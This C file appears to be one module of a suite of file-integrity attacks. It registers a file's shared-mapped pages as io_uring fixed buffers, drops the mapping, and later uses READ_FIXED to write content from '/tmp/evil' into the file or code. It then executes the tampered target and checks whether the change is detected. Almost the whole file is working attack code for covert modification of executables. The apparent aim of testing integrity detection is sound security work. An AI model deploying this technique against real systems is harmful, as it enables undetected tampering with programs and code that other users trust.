/*
 * A file's pages are registered as buffers of an io_uring through a shared mapping, which then goes, with
 * its descriptor: nobody has the file open for writing, or mapped. What the ring reads later lands in the
 * file. Argument: code or program. Must be seen: the changed file's digest, or that it is not stable.
 */
#include <linux/io_uring.h>
#include <sys/uio.h>

#include "attack.h"

struct ring {
	int fd;
	struct io_uring_params p;
	char *queue;
	struct io_uring_sqe *entry;
};

static struct ring made(void)
{
	struct ring r = {.p = {0}};

	r.fd = must(syscall(SYS_io_uring_setup, 1, &r.p), "io_uring_setup");
	r.queue = mapped(mmap(0, r.p.sq_off.array + 4, PROT_READ | PROT_WRITE, MAP_SHARED, r.fd, IORING_OFF_SQ_RING), "mmap");
	r.entry = mapped(mmap(0, sizeof(*r.entry), PROT_READ | PROT_WRITE, MAP_SHARED, r.fd, IORING_OFF_SQES), "mmap");
	return r;
}

static void read_into(struct ring *r, int from, void *buffer, size_t size)
{
	*r->entry = (struct io_uring_sqe){
		.opcode = IORING_OP_READ_FIXED, .fd = from, .addr = (uintptr_t)buffer, .len = size};
	*(unsigned *)(r->queue + r->p.sq_off.array) = 0;
	__atomic_add_fetch((unsigned *)(r->queue + r->p.sq_off.tail), 1, __ATOMIC_RELEASE);
	must(syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0), "io_uring_enter");
}

ATTACK(pinned_pages)
{
	int is_code = is_mode(argv, "code"), evil;
	const char *path = is_code ? CODE : PROGRAM;
	size_t size = size_of(path);
	struct ring ring = made();
	struct iovec buffer = {.iov_base = dirty_mapping(path), .iov_len = size};
	void *code;

	if (syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_BUFFERS, &buffer, 1) < 0)
		absent("IORING_REGISTER_BUFFERS");
	munmap(buffer.iov_base, size);
	if (is_code) {
		code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);
		call(code);
		munmap(code, PAGE);
		write_file("/tmp/evil", evil_code, sizeof(evil_code), 0644);
	} else {
		execute(path);
		write_file("/tmp/evil", evil_program, evil_program_end - evil_program, 0644);
	}
	evil = opened("/tmp/evil", O_RDONLY);
	read_into(&ring, evil, buffer.iov_base, size_of("/tmp/evil"));
	truth(path);
	if (is_code)
		call(map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE));
	else
		execute(path);
	return 0;
}
